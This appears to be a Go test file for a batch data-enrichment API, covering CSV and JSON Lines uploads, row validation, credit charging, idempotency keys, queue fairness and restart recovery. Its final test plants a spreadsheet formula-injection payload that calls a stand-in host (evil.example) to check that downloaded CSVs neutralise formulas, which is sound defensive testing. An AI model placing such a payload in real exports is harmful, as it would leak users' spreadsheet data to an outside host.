package server_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"enrichd/flatten"
	"enrichd/server"
	"enrichd/server/servertest"

	"github.com/matryer/is"
)

func TestBatchEnrichesEveryRowAndWritesTheResults(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	e := servertest.NewEnv(t)
	e.Net.AddCompany(servertest.Company("Acme", "acme.com"))
	e.Net.AddCompany(servertest.Company("Globex", "globex.com"))
	e.StartWorkers()

	file := "Company,domain,owner\nAcme,https://www.Acme.com/about,ann\nGlobex,globex.com,bob\nNobody,nobody-here.com,cy\n"
	r := e.UploadCSV(file, "?name=crm.csv")
	is.Equal(r.Status, http.StatusAccepted)
	id := r.Str("data.id")
	is.Equal(r.Header.Get("Location"), "/v1/batches/"+id)
	is.Equal(r.Str("data.object_type"), "company")
	is.Equal(r.Str("data.name"), "crm.csv")
	is.Equal(r.Get("data.rows"), float64(3))
	is.Equal(r.Get("data.credits_estimate"), float64(3))
	is.Equal(r.Get("data.columns"), []any{"Company", "domain", "owner"})

	done := e.WaitBatchDone(id)
	is.Equal(servertest.Count(done, "succeeded"), 2)
	is.Equal(servertest.Count(done, "failed"), 1)
	is.Equal(servertest.Count(done, "pending"), 0)
	is.Equal(done.Get("data.credits_spent"), float64(2)) // the not_found row was refunded
	is.Equal(e.Balance("acme").Balance, int64(98))

	res := e.Do("GET", "/v1/batches/"+id+"/results", nil)
	is.Equal(res.Status, 200)
	is.True(strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv"))
	is.True(strings.Contains(res.Header.Get("Content-Disposition"), `filename=crm-results.csv`))
	recs := servertest.ReadCSV(t, res.Raw)
	is.Equal(recs[0], append([]string{"Company", "domain", "owner"}, flatten.Columns("company")...))
	is.Equal(len(recs), 4)
	is.Equal(recs[1][:3], []string{"Acme", "https://www.Acme.com/about", "ann"}) // the input as uploaded
	col := func(name string) int {
		for i, c := range recs[0] {
			if c == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	is.Equal(recs[1][col("enrichd_status")], "succeeded")
	is.Equal(recs[1][col("enrichd_name")], "Acme")
	is.Equal(recs[1][col("enrichd_employee_count")], "42")
	is.Equal(recs[2][col("enrichd_domain")], "globex.com")
	is.Equal(recs[3][col("enrichd_status")], "failed")
	is.Equal(recs[3][col("enrichd_error_code")], "not_found")

	// Each row's task carries the key derived from the batch and the row.
	task := e.Do("GET", "/v1/tasks/"+recs[1][col("enrichd_task_id")], nil)
	is.Equal(task.Str("task.idempotency_key"), "batch:"+id+":1")

	// JSON Lines, asked for with Accept: the same columns, in order, every value a string.
	jl := e.Do("GET", "/v1/batches/"+id+"/results", nil, "Accept", "application/x-ndjson")
	is.Equal(jl.Status, 200)
	is.Equal(jl.Header.Get("Content-Type"), "application/x-ndjson")
	lines := strings.Split(strings.TrimSpace(string(jl.Raw)), "\n")
	is.Equal(len(lines), 3)
	dec := json.NewDecoder(strings.NewReader(lines[1]))
	var keys []string
	dec.Token()
	for dec.More() {
		k, _ := dec.Token()
		keys = append(keys, k.(string))
		var v string
		is.NoErr(dec.Decode(&v))
	}
	is.Equal(keys, recs[0])

	list := e.Do("GET", "/v1/batches", nil)
	is.Equal(list.Status, 200)
	is.Equal(list.Get("total"), float64(1))
}

func TestBatchOfPeopleFromJSONLines(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	e := servertest.NewEnv(t)
	companyURL := "https://www.linkedin.com/company/acme"
	e.Net.AddPerson(servertest.Employee("ann-lee", "Ann", "Lee", companyURL, "CTO", "Berlin", "DE", false))
	e.StartWorkers()
	file := `{"networkUrl":"https://www.linkedin.com/in/ann-lee","crm_id":7}` + "\n\n" + `{"networkUrl":"https://www.linkedin.com/in/nobody","note":null}` + "\n"
	r := e.Do("POST", "/v1/batches", file, "Content-Type", "application/x-ndjson")
	is.Equal(r.Status, http.StatusAccepted)
	is.Equal(r.Str("data.object_type"), "person") // a profile URL
	is.Equal(r.Get("data.columns"), []any{"networkUrl", "crm_id", "note"})
	done := e.WaitBatchDone(r.Str("data.id"))
	is.Equal(servertest.Count(done, "succeeded"), 1)
	is.Equal(servertest.Count(done, "failed"), 1)
	recs := servertest.ReadCSV(t, e.Do("GET", "/v1/batches/"+r.Str("data.id")+"/results?format=csv", nil).Raw)
	is.Equal(recs[0], append([]string{"networkUrl", "crm_id", "note"}, flatten.Columns("person")...))
	is.Equal(recs[1][1], "7")
	is.Equal(recs[1][3], "succeeded")
	is.Equal(recs[1][3+4], "Ann Lee")
	is.Equal(recs[1][3+6], "CTO")
}

// Every refused row is listed, numbered, and nothing is made or charged.
func TestBatchRefusesBadRowsAndChargesNothing(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	e := servertest.NewEnv(t)
	e.StartWorkers()
	file := "domain,name\nacme.com,Acme\n,Empty\nnot a domain!,Bad\n\"multi\nline.com\",Two lines\nglobex.com\nok.com,Fine\n"
	r := e.UploadCSV(file, "")
	is.Equal(r.Status, http.StatusBadRequest)
	is.Equal(r.Str("code"), "invalid_input")
	rows := r.Get("rows").([]any)
	is.Equal(len(rows), 4)
	row := func(i int) map[string]any { return rows[i].(map[string]any) }
	is.Equal(row(0)["row"], float64(2))
	is.Equal(row(0)["line"], float64(3))
	is.True(strings.Contains(row(0)["error"].(string), "neither a domain nor a networkUrl"))
	is.Equal(row(1)["row"], float64(3))
	is.Equal(row(2)["row"], float64(4)) // the row of two lines
	is.Equal(row(2)["line"], float64(5))
	is.Equal(row(3)["row"], float64(5))
	is.True(strings.Contains(row(3)["error"].(string), "has 1 fields where the header has 2"))
	is.True(strings.Contains(r.Str("error"), "4 of 6 rows are refused"))

	is.Equal(e.Do("GET", "/v1/batches", nil).Get("total"), float64(0))
	is.Equal(e.Do("GET", "/v1/tasks", nil).Get("total"), float64(0))
	is.Equal(e.Balance("acme").Balance, int64(100))

	// A comma inside a quoted header name is not a column: 200 columns are taken.
	r = e.UploadCSV(`domain,"a,""b"",c"`+servertest.WideHeader(199)[len("domain"):]+"\nacme.com"+strings.Repeat(",", 199)+"\n", "")
	if r.Status != 202 {
		t.Fatalf("%d %s", r.Status, r.Raw)
	}
	is.Equal(len(r.Get("data.columns").([]any)), 200)
}

func TestBatchBoundsAndRefusals(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	e := servertest.NewEnv(t)
	e.StartWorkers()
	for _, c := range []struct {
		name, contentType, body, query string
		status                         int
		code, says                     string
	}{
		{"JSON", "application/json", `{"domain":"acme.com"}`, "", 400, "invalid_input", "Content-Type: text/csv"},
		{"Latin-1", "text/csv; charset=iso-8859-1", "domain\nacme.com\n", "", 400, "invalid_input", "UTF-8"},
		{"empty", "text/csv", "", "", 400, "invalid_input", "empty"},
		{"header only", "text/csv", "domain\n", "", 400, "invalid_input", "no rows"},
		{"no input column", "text/csv", "company,owner\nAcme,ann\n", "", 400, "invalid_input", "no domain, networkUrl or email column"},
		{"duplicate column", "text/csv", "domain,Domain\nacme.com,acme.com\n", "", 400, "invalid_input", "two columns are domain"},
		{"bad quote", "text/csv", "domain\n\"acme.com\n", "", 400, "invalid_input", "not CSV"},
		{"bad object_type", "text/csv", "domain\nacme.com\n", "?object_type=robot", 400, "invalid_input", "object_type"},
		{"long name", "text/csv", "domain\nacme.com\n", "?name=" + strings.Repeat("n", 201), 400, "invalid_input", "name is longer"},
		{"name not UTF-8", "text/csv", "domain\nacme.com\n", "?name=%FF", 400, "invalid_input", "name must be UTF-8"},
		{"name with NUL", "text/csv", "domain\nacme.com\n", "?name=a%00b", 400, "invalid_input", "without NUL"},
		{"not UTF-8", "text/csv", "domain\nacme\xff.com\n", "", 400, "invalid_input", "not valid UTF-8"},
		{"JSON line not an object", "application/x-ndjson", "[1]\n", "", 400, "invalid_input", "1 of 1 rows are refused"},
		{"too many rows", "text/csv", "domain\n" + strings.Repeat("acme.com\n", 10001), "", 400, "invalid_input", "more than 10000 rows"},
		// 10,000 rows, 5,000 of them of the wrong width: each refusal is listed, and the
		// file is not taken for one of more than 10,000 rows.
		{"rows of the wrong width at the row bound", "text/csv", "domain,owner\n" + strings.Repeat("acme.com\nacme.com,ann\n", 5000), "", 400, "invalid_input", "5000 of 10000 rows are refused"},
		// The header's width is refused as soon as the header is read: the rows after it
		// are not parsed (the bad quote would be "not CSV"), and a header of commas does
		// not become millions of columns first.
		{"header too wide", "text/csv", servertest.WideHeader(201) + "\n\"acme.com\n", "", 400, "invalid_input", "the file has 201 columns; at most 200"},
		{"header of commas", "text/csv", "domain" + strings.Repeat(",", 5<<20-16) + "\n", "", 400, "invalid_input", fmt.Sprintf("the file has %d columns; at most 200", 5<<20-15)},
		{"JSON line too wide", "application/x-ndjson", wideJSONLine(201) + `"x":1,}` + "\n", "", 400, "invalid_input", "more than 200 distinct fields"},
		{"too large", "text/csv", "domain,pad\n" + strings.Repeat("acme.com,"+strings.Repeat("x", 600)+"\n", 9000), "", 400, "invalid_input", "larger than 5 MiB"},
		{"more than the balance", "text/csv", "email\n" + strings.Repeat("ann@acme.com\n", 34), "", 402, "insufficient_credits", "costs 102 and 100 remain"},
	} {
		r := e.Do("POST", "/v1/batches"+c.query, c.body, "Content-Type", c.contentType)
		if r.Status != c.status || r.Str("code") != c.code || !strings.Contains(r.Str("error"), c.says) {
			t.Errorf("%s: %d %s", c.name, r.Status, r.Raw)
		}
	}
	// Rows of the wrong width are numbered as the rows they are.
	r := e.UploadCSV("domain,owner\nacme.com\nacme.com\nacme.com,ann\nacme.com\n", "")
	is.Equal(r.Status, 400)
	var numbers []any
	for _, row := range r.Get("rows").([]any) {
		numbers = append(numbers, row.(map[string]any)["row"])
	}
	is.Equal(numbers, []any{float64(1), float64(2), float64(4)})

	is.Equal(e.Do("GET", "/v1/batches", nil).Get("total"), float64(0))
	is.Equal(e.Do("GET", "/v1/tasks", nil).Get("total"), float64(0))
	is.Equal(e.Balance("acme").Balance, int64(100))

	// Another organization's batch, and an id that is none, are not found. (A kept
	// column may hold any text, a NUL too: it is kept as sent.)
	r = e.UploadCSV("domain,note\nacme.com,a\x00b\n", "")
	is.Equal(r.Status, 202)
	otherKey, _ := e.NewOrg("other", 10)
	for _, path := range []string{"/v1/batches/" + r.Str("data.id"), "/v1/batches/" + r.Str("data.id") + "/results", "/v1/batches/nope"} {
		got := e.Do("GET", path, nil, "Authorization", "Bearer "+otherKey)
		if got.Status != 404 || got.Str("code") != "not_found" {
			t.Errorf("%s: %d %s", path, got.Status, got.Raw)
		}
	}
	is.Equal(e.Do("GET", "/v1/batches", nil, "Authorization", "Bearer "+otherKey).Get("total"), float64(0))
}

// The batch's Idempotency-Key: sent again, the same batch, and nothing charged twice.
func TestBatchIdempotencyKeyReplaysTheBatch(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	e := servertest.NewEnv(t)
	e.Net.AddCompany(servertest.Company("Acme", "acme.com"))
	e.Net.AddCompany(servertest.Company("Globex", "globex.com"))
	e.StartWorkers()
	file := "domain\nacme.com\nglobex.com\n"
	first := e.UploadCSV(file, "", "Idempotency-Key", "crm-export-1")
	is.Equal(first.Status, 202)
	is.Equal(first.Str("data.idempotency_key"), "crm-export-1")
	e.WaitBatchDone(first.Str("data.id"))

	again := e.UploadCSV(file, "", "Idempotency-Key", "crm-export-1")
	is.Equal(again.Status, 200)
	is.Equal(again.Header.Get("Idempotent-Replayed"), "true")
	is.Equal(again.Str("data.id"), first.Str("data.id"))
	is.Equal(again.Str("data.status"), "done")
	time.Sleep(2 * e.Cfg.PollInterval) // a feeder woken by mistake, or polling, would have made tasks by now
	is.Equal(e.Do("GET", "/v1/tasks", nil).Get("total"), float64(2))
	is.Equal(e.Balance("acme").Balance, int64(98))
	is.Equal(e.Do("GET", "/v1/batches", nil).Get("total"), float64(1))

	other := e.UploadCSV("domain\nacme.com\n", "", "Idempotency-Key", "crm-export-1")
	is.Equal(other.Status, 422)
	is.Equal(other.Str("code"), "idempotency_key_reused")
	is.Equal(e.Balance("acme").Balance, int64(98))
}

// A row's task is made as any enrichment's: a restart in the middle of a batch (the
// feeder stopped before every row had its task) makes the rest, and no row is
// charged twice.
func TestBatchKeepsToHalfTheBacklogAndResumesAfterARestart(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	e := servertest.NewEnv(t, func(c *server.Config) { c.MaxBacklog = 6 })
	release := e.Net.Hold()
	var file strings.Builder
	file.WriteString("domain\n")
	for i := range 10 {
		domain := fmt.Sprintf("co%d.com", i)
		e.Net.AddCompany(servertest.Company(fmt.Sprintf("Co%d", i), domain))
		file.WriteString(domain + "\n")
	}
	e.StartWorkers()
	r := e.UploadCSV(file.String(), "")
	is.Equal(r.Status, 202)
	id := r.Str("data.id")
	// Half the backlog: 3 queued at most, and the workers hold up to 4 running.
	deadline := time.Now().Add(servertest.SettleWithin)
	for {
		b := e.Do("GET", "/v1/batches/"+id, nil)
		is.True(servertest.Count(b, "queued") <= 3)
		if servertest.Count(b, "pending") < 10 && servertest.Count(b, "queued") == 3 || time.Now().After(deadline) {
			is.True(servertest.Count(b, "pending") > 0)
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	// Another organization is not held up behind the batch: its call is taken.
	otherKey, _ := e.NewOrg("other", 10)
	is.Equal(e.Do("POST", "/v1/companies/enrich", map[string]string{"domain": "co1.com"}, "Authorization", "Bearer "+otherKey).Status, 202)
	// Nor is the organization's own call: the batch leaves it room in the backlog.
	is.Equal(e.Do("POST", "/v1/companies/enrich", map[string]string{"domain": "co2.com"}).Status, 202)

	e.StopWorkers()
	release()
	e.Restart()
	e.StartWorkers()
	done := e.WaitBatchDone(id)
	is.Equal(servertest.Count(done, "succeeded"), 10)
	is.Equal(done.Get("data.credits_spent"), float64(10))
	is.Equal(e.Balance("acme").Balance, int64(100-10-1))
}

// A batch is one organization's bulk upload: another organization's task, sent after
// it, is claimed in turn, not after the whole batch.
func TestBatchDoesNotHoldUpAnotherOrganization(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	e := servertest.NewEnv(t, func(c *server.Config) { c.Workers = 1 })
	if _, err := e.DB.GrantCredits(t.Context(), "acme", 1000, nil); err != nil {
		t.Fatal(err)
	}
	var file strings.Builder
	file.WriteString("domain\n")
	for i := range 300 {
		domain := fmt.Sprintf("co%d.com", i)
		e.Net.AddCompany(servertest.Company(fmt.Sprintf("Co%d", i), domain))
		file.WriteString(domain + "\n")
	}
	e.Net.AddCompany(servertest.Company("Other", "other.com"))
	release := e.Net.Hold()
	e.StartWorkers()
	r := e.UploadCSV(file.String(), "")
	is.Equal(r.Status, 202)
	// The batch's rows are queued before the other organization sends its task.
	deadline := time.Now().Add(servertest.SettleWithin)
	for servertest.Count(e.Do("GET", "/v1/batches/"+r.Str("data.id"), nil), "queued") < 100 {
		if time.Now().After(deadline) {
			t.Fatal("the batch's rows were not queued")
		}
		time.Sleep(5 * time.Millisecond)
	}
	otherKey, _ := e.NewOrg("other", 10)
	asOther := []string{"Authorization", "Bearer " + otherKey}
	q := e.Do("POST", "/v1/companies/enrich", map[string]string{"domain": "other.com"}, asOther...)
	is.Equal(q.Status, 202)
	// The claims that follow: the other organization's task comes in the first two,
	// ahead of the batch's hundreds of queued rows.
	e.StopWorkers() // the held claim goes back to the queue
	release()
	// On PostgreSQL a claim skips the turns other transactions hold (SKIP LOCKED) and
	// reports nothing when it finds every one held, as the batch's feeder may hold its
	// organization's for a moment: a worker polls again, and so does this test.
	var claimed []string
	deadline = time.Now().Add(servertest.SettleWithin)
	for len(claimed) < 2 {
		c, err := e.DB.ClaimTask(t.Context(), time.Minute)
		is.NoErr(err)
		if c != nil {
			claimed = append(claimed, c.TaskID)
		} else if time.Now().After(deadline) {
			t.Fatal("nothing to claim with the batch's rows queued")
		}
	}
	is.True(claimed[0] == q.Str("task.id") || claimed[1] == q.Str("task.id"))
	is.True(servertest.Count(e.Do("GET", "/v1/batches/"+r.Str("data.id"), nil), "queued") >= 98)
}

// A cell that a spreadsheet would run as a formula (it starts with = + - @, a tab or a
// carriage return) is written with a leading apostrophe in a downloaded CSV, whether
// it came from the upload or from a source's result; a number stays a number, and
// JSON Lines keeps every value as it is.
func TestBatchResultsCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	is := is.New(t)
	e := servertest.NewEnv(t)
	c := servertest.Company("Acme", "acme.com")
	c.Name = `=HYPERLINK("http://evil.example/?"&A1,"Acme")`
	e.Net.AddCompany(c)
	e.StartWorkers()

	r := e.UploadCSV("domain,owner,note,score\nacme.com,@SUM(1+1),+1 555 0100,-12.5\n", "")
	is.Equal(r.Status, http.StatusAccepted)
	id := r.Str("data.id")
	e.WaitBatchDone(id)

	recs := servertest.ReadCSV(t, e.Do("GET", "/v1/batches/"+id+"/results", nil).Raw)
	is.Equal(len(recs), 2)
	is.Equal(recs[1][:4], []string{"acme.com", "'@SUM(1+1)", "'+1 555 0100", "-12.5"})
	is.Equal(recs[1][4], "succeeded")
	is.Equal(recs[0][8], "enrichd_name")
	is.Equal(recs[1][8], `'=HYPERLINK("http://evil.example/?"&A1,"Acme")`)

	jl := e.Do("GET", "/v1/batches/"+id+"/results", nil, "Accept", "application/x-ndjson")
	var row map[string]string
	is.NoErr(json.Unmarshal(jl.Raw, &row))
	is.Equal(row["owner"], "@SUM(1+1)")
	is.Equal(row["enrichd_name"], c.Name)
}

// wideJSONLine is the start of a JSON object of n distinct fields, domain the first,
// each followed by a comma.
func wideJSONLine(n int) string {
	var b strings.Builder
	b.WriteString(`{"domain":"acme.com",`)
	for i := 1; i < n; i++ {
		fmt.Fprintf(&b, `"c%d":1,`, i)
	}
	return b.String()
}
